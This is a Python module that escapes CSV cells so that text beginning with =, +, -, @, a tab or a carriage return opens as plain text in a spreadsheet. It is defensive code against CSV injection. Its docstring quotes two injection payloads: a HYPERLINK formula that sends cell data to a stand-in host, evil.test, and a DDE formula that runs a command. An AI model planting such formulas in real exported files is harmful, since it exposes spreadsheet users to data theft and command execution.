"""The cells of the CSV files Relance writes, made safe to open in a spreadsheet.

A text that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or a carriage return) is a
formula to Excel, LibreOffice and Google Sheets: a customer named
``=HYPERLINK("https://evil.test/?"&A1)`` or ``=cmd|' /C calc'!A0`` in an imported ledger
would run when the printer's list is opened. Such a text is written after an apostrophe,
which the spreadsheet shows as text (OWASP's advice for CSV injection); numbers stay as
they are.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Mapping
from typing import Any

_FORMULA = re.compile(r"[=+\-@\t\r]")
_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?")


def cell(value: Any) -> Any:
    """The value, or the text after an apostrophe when a spreadsheet would run it."""
    if isinstance(value, str) and _FORMULA.match(value) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def row(values: Iterable[Any]) -> list[Any]:
    """A row for ``csv.writer``."""
    return [cell(v) for v in values]


def record(values: Mapping[str, Any]) -> dict[str, Any]:
    """A row for ``csv.DictWriter``."""
    return {k: cell(v) for k, v in values.items()}
